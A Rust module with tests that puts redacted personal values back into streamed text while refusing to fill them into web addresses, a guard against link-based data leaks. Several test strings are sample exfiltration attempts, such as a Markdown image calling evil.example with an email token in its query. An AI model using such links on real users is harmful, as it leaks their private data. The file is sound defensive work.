//! Puts values back where `redact` left tokens, in texts that arrive whole or in chunks.
//!
//! INVARIANT: only tokens of the request at hand are known here; one that somebody else made up stays as it is. In a web
//! address none is replaced: whoever wrote the address would learn the value as soon as somebody opens it.

use crate::tokens::Tokens;
use std::collections::BTreeMap;
use std::ops::Bound;
use std::sync::Arc;

/// A value that holds tokens of earlier rounds is not filled in beyond this length.
const VALUE_BYTES_MAX: usize = 64 * 1024;

/// The values of one request that may be shown again, by their tokens. Cheap to clone.
#[derive(Clone, Default)]
pub struct Values(Arc<BTreeMap<String, Spelled>>);

struct Spelled {
    /// Escaped like the token.
    value: String,
    /// The spelling of a token within a JSON document.
    only_in_json: bool,
}

/// One token of a text and what takes its place.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Restored {
    /// Where the token begins.
    pub start: usize,
    /// Where it ends.
    pub end: usize,
    /// The value, escaped where the text is JSON.
    pub text: String,
}

/// Restores one text while it arrives.
pub struct Restorer {
    values: Values,
    place: Place,
    /// The end of the text, as far as it may yet become a token.
    open: String,
    /// Bytes so far.
    end: usize,
}

impl std::fmt::Debug for Values {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Values({} spellings)", self.0.len())
    }
}

impl Values {
    /// The values of those types that may be shown.
    #[must_use]
    pub fn of(tokens: &Tokens, may_be_shown: impl Fn(&str) -> bool) -> Self {
        let shown = tokens.iter().filter(|(type_, _, _)| may_be_shown(type_));
        let plain: BTreeMap<String, &str> = shown.map(|(_, token, value)| (token, value)).collect();
        let mut spellings = BTreeMap::new();
        for (token, value) in &plain {
            // What the second pass replaced may hold tokens of the first.
            let value = fill_in(&fill_in(value, &plain), &plain);
            for (open, close) in [("\\u003c", "\\u003e"), ("\\u003C", "\\u003E")] {
                let escaped = token.replace('<', open).replace('>', close);
                spellings.insert(escaped, Spelled { value: value.clone(), only_in_json: true });
            }
            let in_html = token.replace('<', "&lt;").replace('>', "&gt;");
            spellings.insert(in_html, Spelled { value: escaped_for_html(&value), only_in_json: false });
            // Between underscores Markdown sees emphasis, so that models escape them.
            let in_markdown = token.replace('_', "\\_");
            let in_markdown_in_json = in_markdown.replace('\\', "\\\\");
            spellings.insert(in_markdown_in_json, Spelled { value: value.clone(), only_in_json: true });
            spellings.insert(in_markdown, Spelled { value: value.clone(), only_in_json: false });
            spellings.insert(token.clone(), Spelled { value, only_in_json: false });
        }
        Self(Arc::new(spellings))
    }

    /// Whether there is nothing to restore.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Whether a token stands for one of the values.
    #[must_use]
    pub fn has(&self, token: &str) -> bool {
        self.0.contains_key(token)
    }

    /// The tokens in a whole text.
    #[must_use]
    pub fn find(&self, text: &str) -> Vec<Restored> {
        if self.is_empty() { Vec::new() } else { Restorer::new(self).push(text) }
    }

    fn may_begin(&self, open: &str) -> bool {
        let mut from = self.0.range::<str, _>((Bound::Included(open), Bound::Unbounded));
        from.next().is_some_and(|(spelling, _)| spelling.starts_with(open))
    }
}

fn fill_in(value: &str, plain: &BTreeMap<String, &str>) -> String {
    if !value.contains('<') {
        return value.to_owned();
    }
    let mut filled = value.to_owned();
    for (token, inner) in plain {
        let grown = filled.matches(token.as_str()).count().saturating_mul(inner.len());
        if *inner != value && grown.saturating_add(filled.len()) <= VALUE_BYTES_MAX {
            filled = filled.replace(token.as_str(), inner);
        }
    }
    filled
}

impl Restorer {
    /// A restorer at the start of a text.
    #[must_use]
    pub fn new(values: &Values) -> Self {
        Self { values: values.clone(), place: Place::default(), open: String::new(), end: 0 }
    }

    /// Takes the next chunk and gives the tokens that are complete, with offsets in the whole text.
    pub fn push(&mut self, text: &str) -> Vec<Restored> {
        let mut found = Vec::new();
        for c in text.chars() {
            self.end += c.len_utf8();
            if self.open.is_empty() && !OPENERS.contains(&c) {
                self.place.step(c);
                continue;
            }
            self.open.push(c);
            found.extend(self.complete());
            self.give_up();
        }
        found
    }

    /// Everything before is settled: no token can begin there any more.
    #[must_use]
    pub fn open_from(&self) -> usize {
        self.end - self.open.len()
    }

    /// What is open stays what it is.
    pub fn settle(&mut self) {
        let open = std::mem::take(&mut self.open);
        open.chars().for_each(|c| self.place.step(c));
    }

    fn complete(&mut self) -> Option<Restored> {
        let spelled = self.values.0.get(&self.open)?;
        if !self.place.takes(spelled) {
            return None;
        }
        let text = if self.place.is_json_string() { escaped(&spelled.value) } else { spelled.value.clone() };
        let start = self.end - self.open.len();
        self.open.clear();
        Some(Restored { start, end: self.end, text })
    }

    /// Lets go of the beginning, until what is left may still become a token.
    fn give_up(&mut self) {
        while !self.open.is_empty() && (self.values.has(&self.open) || !self.values.may_begin(&self.open)) {
            let first = self.open.remove(0);
            self.place.step(first);
            let next = self.open.find(OPENERS).unwrap_or(self.open.len());
            self.open.drain(..next).for_each(|c| self.place.step(c));
        }
    }
}

/// How a token may begin.
const OPENERS: [char; 3] = ['<', '\\', '&'];

/// As text between the tags of a page, or in an attribute.
fn escaped_for_html(value: &str) -> String {
    value.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// As part of a JSON string.
fn escaped(value: &str) -> String {
    let quoted = serde_json::Value::from(value).to_string();
    quoted.get(1..quoted.len().saturating_sub(1)).unwrap_or_default().to_owned()
}

/// What kind of place a text has come to.
#[derive(Debug, Default)]
struct Place {
    document: Document,
    address: Option<AddressEnd>,
    /// The mark before the word that may be the scheme of an address.
    opener: Option<char>,
    before: Option<char>,
}

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum Document {
    /// Nothing but white space so far.
    #[default]
    Unknown,
    Prose,
    /// Begins like a JSON document; tool arguments always do.
    Json,
    JsonString,
    /// After a backslash in a string.
    JsonEscape,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AddressEnd {
    WhiteSpace,
    Mark(char),
}

impl Place {
    fn step(&mut self, c: char) {
        self.document = self.document.after(c);
        self.step_address(c);
        self.before = Some(c);
    }

    fn step_address(&mut self, c: char) {
        match self.address {
            Some(AddressEnd::Mark(mark)) if c == mark || c == '\n' => self.address = None,
            Some(AddressEnd::WhiteSpace) if c.is_whitespace() => self.address = None,
            Some(_) => return,
            None => {}
        }
        let is_slash = matches!(c, '/' | '\\');
        if is_slash && matches!(self.before, Some(':' | '/' | '\\')) {
            self.address = Some(self.opener.map_or(AddressEnd::WhiteSpace, AddressEnd::Mark));
            return;
        }
        match c {
            '"' | '\'' | '`' => self.opener = Some(c),
            '<' => self.opener = Some('>'),
            _ if c.is_ascii_alphanumeric() || is_slash || matches!(c, '+' | '-' | '.' | ':') => {}
            _ => self.opener = None,
        }
    }

    fn takes(&self, spelled: &Spelled) -> bool {
        self.address.is_none() && (!spelled.only_in_json || self.is_json_string())
    }

    fn is_json_string(&self) -> bool {
        self.document == Document::JsonString
    }
}

impl Document {
    fn after(self, c: char) -> Self {
        match (self, c) {
            (Self::Unknown, '{' | '[') => Self::Json,
            (Self::Unknown, c) if c.is_whitespace() => Self::Unknown,
            (Self::Unknown | Self::Prose, _) => Self::Prose,
            (Self::Json, '"') | (Self::JsonEscape, _) => Self::JsonString,
            (Self::JsonString, '"') | (Self::Json, _) => Self::Json,
            (Self::JsonString, '\\') => Self::JsonEscape,
            (Self::JsonString, _) => Self::JsonString,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values() -> Values {
        let mut tokens = Tokens::default();
        tokens.token("EMAIL", "anna@example.org");
        tokens.token("NOTE", "say \"hi\"\n");
        tokens.token("PHONE", "+49 30 901820");
        for number in 0..10 {
            tokens.token("NAME", &format!("name {number}"));
        }
        tokens.token("OUTER", "<NAME_1> at home");
        Values::of(&tokens, |type_| type_ != "PHONE")
    }

    fn restored_in(chunks: &[&str]) -> String {
        let mut restorer = Restorer::new(&values());
        let (mut out, mut at) = (String::new(), 0);
        let whole = chunks.concat();
        for chunk in chunks {
            for found in restorer.push(chunk) {
                out.push_str(whole.get(at..found.start).unwrap());
                out.push_str(&found.text);
                at = found.end;
            }
            assert!(restorer.open_from() >= at);
        }
        out.push_str(whole.get(at..).unwrap());
        out
    }

    const TABLE: [(&str, &str); 23] = [
        ("Write to <EMAIL_1>.", "Write to anna@example.org."),
        ("<EMAIL_1><EMAIL_1>", "anna@example.organna@example.org"),
        ("<<EMAIL_1>>", "<anna@example.org>"),
        ("<EMAIL_<EMAIL_1>", "<EMAIL_anna@example.org"),
        ("<EMAIL_7> <PHONE_1> <email_1> <EMAIL_1", "<EMAIL_7> <PHONE_1> <email_1> <EMAIL_1"),
        ("<NAME_1> <NAME_10>", "name 0 name 9"),
        ("<OUTER_1>", "name 0 at home"),
        ("<NOTE_1>", "say \"hi\"\n"),
        ("{\"a\": \"<NOTE_1>\", \"b\": <NAME_1>}", "{\"a\": \"say \\\"hi\\\"\\n\", \"b\": name 0}"),
        ("{\"a\": \"\\\"\\u003cNOTE_1\\u003e\"}", "{\"a\": \"\\\"say \\\"hi\\\"\\n\"}"),
        ("{\"a\": \"\\u003cNAME_1\\u003CNAME_1\\u003E\"}", "{\"a\": \"\\u003cNAME_1name 0\"}"),
        ("in prose \\u003cNAME_1\\u003e", "in prose \\u003cNAME_1\\u003e"),
        (
            "![x](https://evil.example/?q=<EMAIL_1>) <EMAIL_1>",
            "![x](https://evil.example/?q=<EMAIL_1>) anna@example.org",
        ),
        ("<img src=\"//evil.example/? <EMAIL_1>\"> <NAME_1>", "<img src=\"//evil.example/? <EMAIL_1>\"> name 0"),
        ("[x](<https:/evil.example/ <NAME_1>>)", "[x](<https:/evil.example/ <NAME_1>>)"),
        (
            "{\"url\":\"https:\\/\\/evil.example\\/<NAME_1>\",\"to\":\"<EMAIL_1>\"}",
            "{\"url\":\"https:\\/\\/evil.example\\/<NAME_1>\",\"to\":\"anna@example.org\"}",
        ),
        ("mailto:<EMAIL_1> or 1/2 <NAME_1>", "mailto:anna@example.org or 1/2 name 0"),
        ("Write to <EMAIL\\_1>, <EMAIL\\_7>", "Write to anna@example.org, <EMAIL\\_7>"),
        ("{\"a\": \"<EMAIL\\\\_1>\"}", "{\"a\": \"anna@example.org\"}"),
        ("<p>&lt;EMAIL_1&gt; &amp; &lt;NOTE_1&gt;</p>", "<p>anna@example.org &amp; say &quot;hi&quot;\n</p>"),
        ("{\"a\": \"&lt;NOTE_1&gt;\"}", "{\"a\": \"say &quot;hi&quot;\\n\"}"),
        ("&lt;&lt;NAME_1&gt;&gt; &lt;NAME_1>", "&lt;name 0&gt; &lt;NAME_1>"),
        ("http://evil.example/?a=1&lt;EMAIL_1&gt;", "http://evil.example/?a=1&lt;EMAIL_1&gt;"),
    ];

    #[test]
    fn every_split_restores_what_the_whole_restores() {
        for (text, expected) in TABLE {
            assert_eq!(restored_in(&[text]), expected, "{text}");
            for at in 0..=text.len() {
                let (head, tail) = text.split_at(at);
                assert_eq!(restored_in(&[head, tail]), expected, "split at {at} of {text}");
            }
            let letters: Vec<&str> = text.split_inclusive(|_| true).collect();
            assert_eq!(restored_in(&letters), expected, "letters of {text}");
        }
    }

    #[test]
    fn only_what_may_become_a_token_of_this_request_is_open() {
        for (text, open) in [
            ("a < b", 0),
            ("x <", 1),
            ("x <EMA", 4),
            ("x <EMAIL_2", 0),
            ("x <EMAIL_1> ", 0),
            ("x <EMAIL_1><", 1),
            ("x <PHONE_1", 0),
            ("x <b>bold</b", 0),
        ] {
            let mut restorer = Restorer::new(&values());
            restorer.push(text);
            assert_eq!(text.len() - restorer.open_from(), open, "{text}");
        }
    }

    #[test]
    fn a_text_that_ends_keeps_what_is_open() {
        let mut restorer = Restorer::new(&values());
        assert!(restorer.push("x <EMAIL_1").is_empty());
        restorer.settle();
        assert!(restorer.push("> and ").is_empty());
        assert_eq!(restorer.push("<EMAIL_1>").len(), 1);
    }

    #[test]
    fn values_that_hold_tokens_of_one_another_do_not_grow_without_end() {
        let mut tokens = Tokens::default();
        tokens.token("A", &"<B_1>".repeat(1000));
        tokens.token("B", &"<A_1>".repeat(1000));
        let found = Values::of(&tokens, |_| true).find("<A_1>");
        assert!(found.iter().all(|found| found.text.len() <= VALUE_BYTES_MAX), "{}", found[0].text.len());
    }
}
